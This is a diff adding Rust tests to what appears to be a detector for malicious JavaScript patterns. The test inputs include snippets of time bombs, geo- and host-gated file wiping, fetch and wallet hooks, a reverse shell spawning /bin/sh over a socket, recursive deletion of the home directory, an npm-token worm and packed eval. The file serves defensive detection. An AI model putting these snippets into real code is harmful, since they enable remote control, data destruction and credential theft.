@@ -259,3 +259,56 @@ fn what_does_not_flow_is_not_reported() {
         assert_eq!(flows(code), Vec::<String>::new(), "{code}");
     }
 }
+
+fn shapes(code: &str) -> Vec<String> {
+    let parsed = parse("a.js", code);
+    let facts = parsed.facts.into_iter().filter(|f| matches!(f.kind, FactKind::Shape | FactKind::Guard));
+    facts.map(|fact| fact.name).collect()
+}
+
+#[test]
+fn shapes_and_guards_are_seen() {
+    let cases: &[(&str, &str)] = &[
+        ("if (Date.now() > 1800000000000) { fetch('https://a.invalid') }", "time-bomb"),
+        ("const now = new Date(); if (now.getTime() >= new Date('2027-01-01').getTime()) require('child_process').exec('ls')", "time-bomb"),
+        ("function f() { if (new Date() < new Date(2027, 1, 1)) return; fetch('https://a.invalid') }", "time-bomb"),
+        ("new Date().getFullYear() >= 2027 && eval(x)", "time-bomb"),
+        ("if (Intl.DateTimeFormat().resolvedOptions().timeZone === 'Europe/Minsk') require('fs').writeFileSync(x, '')", "geo"),
+        ("if (d.country_name.toLowerCase().includes('russia')) require('fs').writeFileSync(x, '')", "geo"),
+        ("if (require('os').hostname() !== 'DESKTOP-1') require('child_process').exec('ls')", "host"),
+        ("const f = window.fetch; window.fetch = function (a) { return f(a) }", "prototype-hook"),
+        ("window.ethereum.request = async a => g(a)", "wallet-hook"),
+        ("const r = /0x[a-fA-F0-9]{40}/g; globalThis.fetch = async (...a) => g(a)", "wallet-hook"),
+        (
+            "const n = require('net'), c = require('child_process'); const s = n.connect(1, 'a.invalid'); const p = c.spawn('/bin/sh', []); s.pipe(p.stdin)",
+            "reverse-shell",
+        ),
+        ("require('fs').rmSync(require('os').homedir(), { recursive: true })", "destructive-walk"),
+        ("require('child_process').execSync('npm publish'); f(process.env.NPM_TOKEN); require('fs').writeFileSync('package.json', x)", "worm"),
+        ("require('fs').writeFileSync('.github/workflows/x.yml', y)", "worm"),
+        ("eval(function(p,a,c,k,e,d){return p}('x',1,1,''.split('|'),0,{}))", "packed-eval"),
+    ];
+    for (code, expected) in cases {
+        assert!(shapes(code).iter().any(|name| name == expected), "{code}\n  gives {:?}", shapes(code));
+    }
+    let names: String = (0x1000..0x1020).map(|n| format!("var _0x{n:x}=1;")).collect();
+    assert_eq!(shapes(&names), ["obfuscator-array"]);
+}
+
+#[test]
+fn honest_conditions_and_assignments_are_no_shapes() {
+    for code in [
+        "if (Date.now() - start > 5000) fetch('https://a.invalid')",
+        "if (Date.now() > expires) fetch('https://a.invalid')",
+        "if (new Date() > new Date('2027-01-01')) console.log('happy new year')",
+        "if (user.country === 'DE') fetch('https://a.invalid')",
+        "globalThis.fetch = globalThis.fetch || require('node-fetch')",
+        "exports.fetch = function () {}",
+        "require('child_process').spawn('sh', ['-c', 'ls']); require('net').connect(1).pipe(x)",
+        "require('fs').rmSync(path.join(require('os').homedir(), '.cache', 'x'))",
+        "require('child_process').exec('npm install')",
+        "var _0x1234 = 1",
+    ] {
+        assert_eq!(shapes(code), Vec::<String>::new(), "{code}");
+    }
+}
